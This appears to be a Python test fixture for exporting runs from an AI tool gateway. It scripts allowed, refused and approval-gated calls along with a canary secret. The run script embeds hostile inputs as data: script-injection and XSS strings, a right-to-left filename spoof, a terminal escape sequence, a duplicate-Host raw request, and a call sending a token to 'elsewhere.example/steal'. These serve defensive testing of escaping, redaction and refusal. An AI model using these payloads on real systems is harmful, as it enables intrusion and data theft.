"""A run in which everything happens that an export has to show."""

from .llm.answer import Answer, Usage
from .llm.case import GatewayCase

SECRET = "canary-of-the-tool-0123456789"
PROMPT = "</script><script>document.title='owned'</script> \u202egnp.exe <!-- \x1b[2J"

SCRIPT = """
api = tool("api")
statuses = [
    call("GET", api + "/v1/items?token=opensesame&page=2").status,
    call("GET", api + "/v1/%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E/'\\"").status,
    call("DELETE", api + "/v1/items/1").status,
    call("POST", api + "/v1/pay", {"Content-Type": "application/json"}, b'{"amount": 5, "token": "opensesame"}').status,
    Client(proxy()).call("GET", "http://elsewhere.example/steal?data=opensesame").status,
    chat(PROMPT).status,
    chat("hello", model="<b>none</b>\\u202e").status,
]
with socket.create_connection(door("api")) as raw:
    raw.sendall(b"GET /v1/items HTTP/1.1\\r\\nHost: a\\r\\nHost: b\\r\\n\\r\\n")
    statuses.append(int(raw.recv(4096).split()[1]))
observe(statuses=statuses)
"""


class StoryCase(GatewayCase):
    def live_through(self):
        """A run with calls that are allowed, refused, approved, unreadable, and of models; returns its result."""
        server, provider = self.upstream(), self.serve("openai")
        provider.answers(Answer(pieces=("the answer ", PROMPT), usage=Usage(1200, 300)))
        self.models({"main": provider.provider(models=["gpt-4o-mini"], record_bodies=True, prices={"gpt-4o-mini": {"input": 1, "output": 2}})},
                    {"default": "main/gpt-4o-mini"},
                    {"careful": {"rules": [{"permission": "allow", "operations": ["GET"]},
                                           {"permission": "approval_required", "tool": "api", "operations": ["POST"]},
                                           {"permission": "allow", "tool": "main"}]}},
                    tools={"api": {"base_url": server.url, "auth": {"type": "bearer", "secret": "env:API_SECRET"}}})
        running = self.start_asking(f"PROMPT = {PROMPT!r}\n" + SCRIPT, env={"API_SECRET": SECRET},
                                    flags=["--user=alice@example.com"])
        self.cli("approvals", "approve", self.await_approval()["id"], status=0)
        result = running.finish()
        self.secret_values = [SECRET, provider.key]
        return result

    def export(self, result, form):
        return self.cli("runs", "export", result.run_id, "--format", form, status=0).stdout
